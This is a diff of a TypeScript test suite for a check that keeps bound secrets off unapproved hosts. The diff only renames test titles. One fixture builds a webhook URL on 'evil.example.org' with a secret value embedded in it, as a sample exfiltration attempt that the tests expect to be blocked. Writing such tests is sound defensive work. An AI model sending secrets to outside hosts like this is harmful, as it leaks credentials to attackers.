@@ -16,14 +16,14 @@ async function perform(type: string, config: JsonObject, over: Parameters<typeof
 }
 const error = { type: "invalid_configuration", code: "secret_bound_elsewhere", retryable: false };
 
-it("says which secret, where it would go and where it may", async () => {
+it("a blocked call reports the secret, the blocked host and the allowed hosts", async () => {
   const over = { bounds: [bound("api.example.com", "*.example.net")], secrets: ["a-secret-value"] };
   const { outcome, hosts } = await perform("webhook", { url: "https://evil.example.org/a-secret-value" }, over);
   const details = { secret: "crm_token", to: "evil.example.org", hosts: ["api.example.com", "*.example.net"] };
   expect([outcome, hosts]).toMatchObject([{ ok: false, error: { ...error, details } }, []]);
 });
 
-it("does not show a value that stands in the host itself", async () => {
+it("the report does not contain a secret that is part of the host", async () => {
   const over = { bounds: [bound("api.example.com")], secrets: ["hushhush"] };
   const { outcome } = await perform("webhook", { url: "https://hushhush.example.org/" }, over);
   expect(outcome).toMatchObject({ ok: false, error });
@@ -52,7 +52,7 @@ it.each<[string, string[], boolean, string[]]>([
   if (!performed.outcome.ok) expect(performed.outcome.error).toMatchObject(error);
 });
 
-it("what a connection brings counts from when it is opened", async () => {
+it("a connection's secrets are checked from the time it is opened", async () => {
   const bounds: BoundSecret[] = [];
   const connection = async (_: string | null, provider: string) => {
     bounds.push(bound("api.example.com"));
@@ -62,7 +62,7 @@ it("what a connection brings counts from when it is opened", async () => {
   expect([outcome, hosts]).toMatchObject([{ ok: false, error }, []]);
 });
 
-it("the e-mail binding has no host: no such secret goes through it", async () => {
+it("the e-mail binding has no host, so no restricted secret may be used with it", async () => {
   const sent: unknown[] = [];
   const email = { send: async (message: unknown) => (sent.push(message), { messageId: "m" }) };
   const mail = { provider: "cloudflare", to: "ada@example.com", from: "us@example.com", subject: "Hi", text: "Hello" };
@@ -73,7 +73,7 @@ it("the e-mail binding has no host: no such secret goes through it", async () =>
   expect(sent).toHaveLength(1);
 });
 
-it("a call of the engine's own keeps to the hosts, too", async () => {
+it("the engine's own calls are checked, too", async () => {
   const { calls, ...surroundings } = world(fine);
   const call = { method: "GET", url: "https://api.example.com/", headers: {}, body: null, timeoutMs: 100, secrets: [] };
   const refused = await callOut({ ...call, bounds: [bound("login.example.com")] }, surroundings);
